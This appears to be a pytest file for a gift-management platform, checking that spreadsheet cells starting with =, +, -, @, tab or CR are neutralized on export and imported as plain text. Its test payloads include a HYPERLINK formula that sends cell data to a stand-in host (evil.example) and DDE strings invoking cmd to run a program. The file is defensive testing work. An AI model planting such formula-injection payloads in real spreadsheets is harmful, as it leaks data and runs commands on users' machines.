"""Cells beginning with = + - @ tab or CR are stored as text, and neutralized whenever the
platform writes them back to a spreadsheet."""

import datetime
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest

from giftplatform.sheets.writer import FORMULA_TRIGGERS, neutralize, write_workbook
from gifts.imports import import_preview
from gifts.imports.sheets_out import write_error_sheet
from gifts.models import Gift, ImportStatus
from tests.imports.sheets import GIFT_HEADERS, gift_row, table, write_csv, write_xlsx_as_excel

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"点我领取")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_the_six_triggers_are_all_covered():
    assert set(FORMULA_TRIGGERS) == set(PAYLOADS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=[repr(k) for k in PAYLOADS])
def test_neutralize_prefixes_an_apostrophe(payload):
    assert neutralize(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["车载吸尘器", "G1001", "'=already quoted", " =leading space", "a=b", "", None, -5, 1.5,
     Decimal("-1.00"), datetime.date(2026, 11, 3), True],
)  # fmt: skip
def test_neutralize_leaves_everything_else_alone(value):
    assert neutralize(value) == value


def _unescape(value):
    # xlsxwriter writes CR as the OOXML escape _x000D_, which Excel decodes; openpyxl does not.
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def read_back(data: bytes):
    """Every cell of the first sheet as (value, data_type), formulas not evaluated."""
    workbook = openpyxl.load_workbook(BytesIO(data))
    return [
        [(_unescape(c.value), c.data_type) for c in row]
        for row in workbook.worksheets[0].iter_rows()
    ]


@pytest.mark.parametrize("constant_memory", [True, False])
def test_write_workbook_neutralizes_headers_notes_and_cells(constant_memory):
    payloads = list(PAYLOADS.values())
    buffer = BytesIO()

    write_workbook(
        buffer,
        ["=header", "名称"],
        [[payload, -5] for payload in payloads] + [["正常", Decimal("12.50")]],
        notes=["@note"],
        highlight_column=0,
        constant_memory=constant_memory,
    )

    cells = read_back(buffer.getvalue())
    assert cells[0][0] == ("'@note", "s")
    assert cells[1] == [("'=header", "s"), ("名称", "s")]
    for row, payload in zip(cells[2:], payloads, strict=False):
        assert row[0] == ("'" + payload, "s")
        assert row[1] == (-5, "n")  # numbers stay numbers
    assert cells[-1] == [("正常", "s"), (12.5, "n")]
    assert not any(dtype == "f" for row in cells for _, dtype in row)


def test_write_workbook_to_a_file_path(tmp_path):
    target = tmp_path / "out.xlsx"

    write_workbook(str(target), ["a"], [["+1"], ["-1"], ["@x"], ["\tx"], ["\rx"], ["=x"]])

    values = [row[0][0] for row in read_back(target.read_bytes())[1:]]
    assert values == ["'+1", "'-1", "'@x", "'\tx", "'\rx", "'=x"]


@pytest.mark.usefixtures("catalog")
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formula_text_is_imported_as_plain_text(run, tmp_path, fmt):
    rows = [
        gift_row(f"G000{n}", 礼品名称=payload.strip("\t\r"), 所属机构="")
        for n, payload in enumerate(PAYLOADS.values(), 1)
    ]
    data = table(GIFT_HEADERS, rows)
    path = (
        write_xlsx_as_excel(tmp_path / "g.xlsx", data)
        if fmt == "xlsx"
        else write_csv(tmp_path / "g.csv", data)
    )

    job = run("gifts", path)

    assert job.status == ImportStatus.COMMITTED, job.errors
    assert Gift.objects.get(code="G0001").name == PAYLOADS["="]
    assert Gift.objects.get(code="G0002").name == PAYLOADS["+"]
    assert Gift.objects.get(code="G0004").name == PAYLOADS["@"]


@pytest.mark.usefixtures("catalog")
def test_error_sheet_written_back_neutralizes_the_users_cells(tmp_path, superuser):
    rows = [
        gift_row("G0001", 礼品名称=PAYLOADS["="]),
        gift_row("G0002", 礼品名称="@SUM(A1)", 面值="-1"),
    ]
    path = write_xlsx_as_excel(tmp_path / "g.xlsx", table(GIFT_HEADERS, rows))
    job = import_preview(actor=superuser, kind="gifts", path=path, file_name="g.xlsx")
    assert job.status == ImportStatus.REJECTED
    buffer = BytesIO()

    write_error_sheet(job, buffer)

    cells = read_back(buffer.getvalue())
    name_column = 1 + GIFT_HEADERS.index("礼品名称")
    assert cells[1][name_column] == ("'" + PAYLOADS["="], "s")
    assert cells[2][name_column] == ("'@SUM(A1)", "s")
    assert "'-1" in [value for value, _ in cells[2]]
    assert not any(dtype == "f" for row in cells for _, dtype in row)
